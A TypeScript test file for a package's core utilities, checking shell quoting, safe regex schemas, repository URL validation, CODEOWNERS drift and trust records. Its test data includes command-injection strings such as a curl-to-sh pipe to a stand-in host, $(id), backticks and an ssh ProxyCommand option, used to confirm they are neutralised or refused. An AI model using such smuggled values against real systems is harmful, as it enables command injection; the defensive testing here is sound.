import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import {
  assertCommitMessageSize,
  assertWritableYaml,
  codeownersDrift,
  commandDigest,
  findTrust,
  linearPattern,
  losslessBytes,
  losslessUtf8,
  renderCodeowners,
  shellCommand,
  shellQuote,
  validateAgainstSchema,
  validateFile,
  withoutTrust,
  withTrust,
} from '@blue/core';

describe('shellQuote', () => {
  it('leaves plain words alone and single-quotes the rest, so the shell reads back exactly the value', () => {
    expect(shellQuote('https://github.com/a/b.git')).toBe('https://github.com/a/b.git');
    expect(shellCommand(['git', 'clone', '-x'])).toBe('git clone -x');
    for (const value of ["a b", "x; curl evil | sh #", "it's", '$(id)', '`id`', '', 'a\nb']) {
      const quoted = shellQuote(value);
      const echoed = execFileSync('sh', ['-c', `printf %s ${quoted}`], { encoding: 'utf8' });
      expect(echoed).toBe(value.replace(/\n/g, '?'));
    }
  });
});

describe('export schema patterns (RE2)', () => {
  it('match ^(a|a)+$ against 37 characters in linear time, and refuse back-references as SCHEMA_UNSAFE', () => {
    const started = performance.now();
    expect(validateAgainstSchema({ type: 'string', pattern: '^(a|a)+$' }, `${'a'.repeat(36)}!`)).toHaveLength(1);
    expect(validateAgainstSchema({ type: 'string', pattern: '^(a|a)+$' }, 'a'.repeat(10_000))).toEqual([]);
    expect(performance.now() - started).toBeLessThan(2000);
    expect(validateAgainstSchema({ type: 'string', pattern: '(a)\\1' }, 'aa')[0]).toMatchObject({ code: 'SCHEMA_UNSAFE' });
    expect(linearPattern('^[a-z]+$').test('abc')).toBe(true);
    expect(() => linearPattern('(?=a)')).toThrow(/cannot be matched in linear time/);
  });

  it('stop a schema whose $ref recurses on the same value (SCHEMA_UNSAFE) and keep recursion that descends', () => {
    expect(validateAgainstSchema({ $ref: '#' }, 1)[0]).toMatchObject({ code: 'SCHEMA_UNSAFE' });
    expect(validateAgainstSchema({ type: 'object', properties: { child: { $ref: '#' } } }, { child: { child: {} } })).toEqual([]);
  });
});

describe('realm strings in the file schemas', () => {
  const domain = (extra: Record<string, unknown>): number => validateFile('domain', { name: 'a', maintainers: ['m@example.com'], joined_at: '2026-01-01T00:00:00Z', ...extra }).length;
  it('accept the URL forms git accepts and refuse shell and control characters', () => {
    for (const url of ['https://github.com/a/b.git', 'git@github.com:a/b.git', 'ssh://git@host:22/~u/r.git', 'file:///srv/r.git', '/srv/r.git', '../r.git']) expect(domain({ repo_url: url }), url).toBe(0);
    for (const url of ['https://x/a.git; sh', 'https://x/$(id).git', '-oProxyCommand=x', 'a b', 'https://x/\n']) expect(domain({ repo_url: url }), url).toBe(1);
  });
  it('take github as owner/name and maintainers as emails or @handles', () => {
    expect(domain({ github: 'letemcook/fungal-image-analysis' })).toBe(0);
    for (const slug of ['-x/y', 'x/..', 'x/y; z', 'x']) expect(domain({ github: slug }), slug).toBe(1);
    expect(domain({ maintainers: ['@org/team', 'a.b+c@example.com'] })).toBe(0);
    expect(domain({ maintainers: ['a`id`@x'] })).toBe(1);
  });
});

describe('codeownersDrift', () => {
  const expected = renderCodeowners('r', ['ada@x'], [{ name: 'aperture', maintainers: ['bob@x'] }]);
  it('is empty for the generated file, comments and blank lines aside', () => {
    expect(codeownersDrift(`${expected}\n# a comment\n`, expected)).toEqual({ unexpected: [], missing: [] });
  });
  it('names every extra line (last match wins on GitHub) and every missing one', () => {
    const drift = codeownersDrift(`${expected.replace('/.github/ ada@x\n', '')}* mallory@x\n/domains/aperture/ bob@x\n`, expected);
    expect(drift.unexpected.map((r) => r.pattern)).toEqual(['*', '/domains/aperture/']);
    expect(drift.missing).toEqual(['/.github/ ada@x']);
  });
});

describe('trust records', () => {
  it('key on repo and the sha256 of the exact argv: any change is another command', () => {
    const argv = ['node', 'scripts/info.js'];
    const file = withTrust({ trusted: [] }, { repo: '/r', command: argv, sha256: commandDigest(argv), trusted_at: '2026-01-01T00:00:00Z' });
    expect(findTrust(file, '/r', argv)).toBeDefined();
    expect(findTrust(file, '/other', argv)).toBeUndefined();
    expect(findTrust(file, '/r', ['node', 'scripts/info.js', '--x'])).toBeUndefined();
    expect(commandDigest(['a b'])).not.toBe(commandDigest(['a', 'b']));
    expect(withTrust(file, file.trusted[0] as never).trusted).toHaveLength(1);
    expect(withoutTrust(file, '/r', () => true)).toEqual({ file: { trusted: [] }, removed: file.trusted });
  });
});

describe('lossless UTF-8', () => {
  it('round-trips bytes that are not UTF-8 and leaves UTF-8 as it is', () => {
    const latin1 = Buffer.from([0x63, 0x61, 0x66, 0xe9, 0x2e, 0x70, 0x79]);
    expect(losslessBytes(losslessUtf8(latin1))).toEqual(latin1);
    expect(losslessUtf8(Buffer.from('café/😀.py'))).toBe('café/😀.py');
    const mixed = Buffer.concat([Buffer.from('é'), Buffer.from([0xff, 0xc3]), Buffer.from('😀')]);
    expect(losslessBytes(losslessUtf8(mixed))).toEqual(mixed);
  });
});

describe('write limits', () => {
  it('refuse a YAML file over 8 MiB naming the largest export, and a commit message over 1 MiB', () => {
    const exports = { exports: [{ name: 'small', value: 1 }, { name: 'huge', value: 'x'.repeat(10) }] };
    expect(() => assertWritableYaml('domains/a/exports.yaml', 'x'.repeat(9 * 1024 * 1024), exports)).toThrow(expect.objectContaining({ code: 'VALUE_TOO_LARGE', message: expect.stringMatching(/^Export "huge" would make domains\/a\/exports\.yaml 9\.0 MiB/) }));
    expect(() => assertWritableYaml('x.yaml', 'x'.repeat(1024))).not.toThrow();
    expect(() => assertCommitMessageSize('m'.repeat(1024 * 1024 + 1))).toThrow(expect.objectContaining({ code: 'VALUE_TOO_LARGE' }));
  });
});
